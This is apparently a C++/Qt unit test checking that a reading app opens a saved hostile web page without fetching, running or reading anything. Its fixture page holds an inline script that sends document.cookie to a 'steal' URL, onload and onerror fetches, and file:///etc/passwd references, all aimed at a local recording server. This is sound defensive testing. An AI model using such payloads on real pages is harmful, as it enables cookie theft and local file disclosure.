// A saved web page is data, never code: importing it and reading it in the window
// fetches nothing and runs nothing. Every reference of a hostile page (images, srcset,
// fonts, stylesheets, iframes, scripts, prefetch, meta refresh, ping, file:// links)
// points at a local server that records each connection, or at /etc/passwd; the page
// goes through the window's own import, is opened, painted, and an entity's card is
// shown. The server must see no connection and nothing of /etc/passwd may show.
#include "core/storage/ArticleRepository.h"
#include "core/storage/Library.h"
#include "tests/support/TempLibrary.h"
#include "ui/ArticleView.h"
#include "ui/MainWindow.h"
#include "ui/panels/EntityCard.h"

#include <QCoreApplication>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QTcpServer>
#include <QTcpSocket>

#include <gtest/gtest.h>

#include <functional>

using namespace dossier;
using namespace Qt::StringLiterals;

namespace {

// Accepts and counts every connection to 127.0.0.1:port.
class Recorder {
public:
    Recorder() {
        server_.listen(QHostAddress::LocalHost, 0);
        QObject::connect(&server_, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* s = server_.nextPendingConnection()) {
                ++connections_;
                s->close();
                s->deleteLater();
            }
        });
    }
    quint16 port() const { return server_.serverPort(); }
    int connections() const { return connections_; }
    void reset() { connections_ = 0; }

private:
    QTcpServer server_;
    int connections_ = 0;
};

void spin(
    int ms, const std::function<bool()>& done = [] { return false; }) {
    QElapsedTimer timer;
    timer.start();
    while (timer.elapsed() < ms && !done()) QCoreApplication::processEvents(QEventLoop::AllEvents, 10);
}

QString hostilePage(quint16 port) {
    QString html =
        uR"page(<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=SERVER/refresh">
<title>Harbour talks resume in Oslo</title>
<base href="SERVER/base/">
<link rel="stylesheet" href="SERVER/style.css">
<link rel="prefetch" href="SERVER/prefetch">
<link rel="preload" as="font" href="SERVER/font.woff2" crossorigin>
<link rel="icon" href="SERVER/favicon.ico">
<link rel="stylesheet" href="file:///etc/passwd">
<meta property="og:image" content="SERVER/og.png">
<style>
@import url("SERVER/import.css");
@font-face { font-family: Hostile; src: url(SERVER/font.woff); }
body { background: url(SERVER/background.png); font-family: Hostile; }
</style>
<script src="SERVER/app.js"></script>
<script>var stolen = document.cookie; fetch("SERVER/steal?c=" + stolen); document.write("SCRIPT-WROTE-THIS");</script>
</head>
<body background="SERVER/body.png" onload="fetch('SERVER/onload')">
<article>
<h1>Harbour talks resume in Oslo</h1>
<p>Prime Minister Mark Carney met Norwegian officials in Oslo on Monday to discuss fishing quotas.
<img src="SERVER/pixel.gif" srcset="SERVER/small.png 1x, SERVER/large.png 2x" onerror="fetch('SERVER/onerror')">
The talks will continue in March.</p>
<p>Officials said the <a href="file:///etc/passwd" ping="SERVER/ping">full agreement</a> would be published later.
<img src="file:///etc/passwd"></p>
<p>A notice in Oslo read &lt;img src="file:///etc/passwd"&gt; and nothing else.</p>
<picture><source srcset="SERVER/picture.webp"><img src="SERVER/picture.jpg" alt=""></picture>
<iframe src="SERVER/frame" srcdoc="&lt;script&gt;fetch('SERVER/srcdoc')&lt;/script&gt;IFRAME-SRCDOC-TEXT"></iframe>
<iframe src="file:///etc/passwd"></iframe>
<object data="file:///etc/passwd" type="text/plain"></object>
<embed src="SERVER/embed.swf">
<video src="SERVER/video.mp4" poster="SERVER/poster.png"></video>
<audio src="SERVER/audio.mp3"></audio>
<svg><image href="SERVER/svg.png"/><script>fetch("SERVER/svg-script"); SVG-SCRIPT-TEXT</script></svg>
<p style="background-image:url(SERVER/inline.png)">Fishermen in Tromsø welcomed the talks.</p>
<noscript><img src="SERVER/noscript.gif"></noscript>
<form action="SERVER/form"><input type="image" src="SERVER/input.png"></form>
<a href="SERVER/more" ping="SERVER/ping">More news</a>
</article>
<script>alert("SCRIPT-MARKER-END")</script>
</body></html>
)page"_s;
    return html.replace(u"SERVER"_s, u"http://127.0.0.1:%1"_s.arg(port));
}

// Lines of /etc/passwd long enough to be recognised if they leaked into the text.
QStringList passwdLines() {
    QFile f(u"/etc/passwd"_s);
    QStringList lines;
    if (f.open(QIODevice::ReadOnly))
        for (const QString& l : QString::fromUtf8(f.readAll()).split(u'\n'))
            if (l.size() >= 12) lines << l;
    return lines;
}

void expectInert(const QString& where, const QString& shown) {
    for (const QString& code :
         {u"fetch("_s, u"document.cookie"_s, u"SCRIPT-WROTE-THIS"_s, u"SCRIPT-MARKER-END"_s,
          u"SVG-SCRIPT-TEXT"_s, u"IFRAME-SRCDOC-TEXT"_s, u"@import"_s, u"@font-face"_s, u"stolen"_s})
        EXPECT_FALSE(shown.contains(code))
            << where.toStdString() << " shows page code: " << code.toStdString();
    EXPECT_FALSE(shown.contains(u"root:"_s)) << where.toStdString() << " shows /etc/passwd";
    for (const QString& line : passwdLines())
        EXPECT_FALSE(shown.contains(line))
            << where.toStdString() << " shows /etc/passwd: " << line.toStdString();
}

}  // namespace

TEST(HostilePage, OpeningASavedPageFetchesNothingRunsNothingAndReadsNoLocalFile) {
    QCoreApplication::setOrganizationName(u"DossierTest"_s);
    Recorder recorder;
    ASSERT_NE(recorder.port(), 0);
    {
        // The recorder does see a connection when one is made.
        QTcpSocket probe;
        probe.connectToHost(QHostAddress::LocalHost, recorder.port());
        spin(5000, [&] { return recorder.connections() > 0; });
        ASSERT_EQ(recorder.connections(), 1);
        recorder.reset();
    }
    test::TempLibrary t;
    const QString page = QString::fromStdString(t.dir()) + u"/harbour-talks.html"_s;
    {
        QFile f(page);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write(hostilePage(recorder.port()).toUtf8());
    }

    ui::MainWindow window(t.library());
    window.resize(1400, 900);
    window.show();
    int imported = -1;
    QStringList refused;
    QObject::connect(&window, &ui::MainWindow::importFinished, [&](int n, const QStringList& r) {
        imported = n;
        refused = r;
    });
    window.importFiles({page});  // the window's own import, as a dropped file
    spin(30000, [&] { return !window.importRunning(); });
    ASSERT_EQ(imported, 1) << refused.join(u'\n').toStdString();

    const auto list = t.library().articles().list();
    ASSERT_EQ(list.size(), 1u);
    window.openArticle(list[0].id);
    window.showEntity(u"place/oslo"_s);
    const QImage painted = window.grab().toImage();  // everything laid out and drawn
    ASSERT_FALSE(painted.isNull());
    spin(500);  // time for any fetch that was started to reach the server

    EXPECT_EQ(recorder.connections(), 0) << "the page made Dossier connect to the address it named";

    const QString text = window.articleView()->toPlainText();
    EXPECT_TRUE(text.contains(u"Mark Carney met Norwegian officials in Oslo on Monday"_s))
        << text.toStdString();
    EXPECT_TRUE(text.contains(u"Fishermen in Tromsø welcomed the talks."_s));
    expectInert(u"the article"_s, text);
    auto* card = window.findChild<ui::EntityCard*>(u"entityCard"_s);
    ASSERT_TRUE(card);
    const QString cardText = card->toPlainText();
    EXPECT_TRUE(cardText.contains(u"Oslo"_s)) << cardText.toStdString();
    // Markup written as text in the page stays text on the card, not an image to load.
    EXPECT_TRUE(cardText.contains(u"<img src=\"file:///etc/passwd\">"_s)) << cardText.toStdString();
    expectInert(u"the entity card"_s, cardText);
    const auto stored = t.library().articles().get(list[0].id);
    ASSERT_TRUE(stored);
    expectInert(u"the stored article"_s, QString::fromStdString(stored->meta.title + "\n" + stored->text));
    expectInert(u"the window title"_s, window.windowTitle());
}
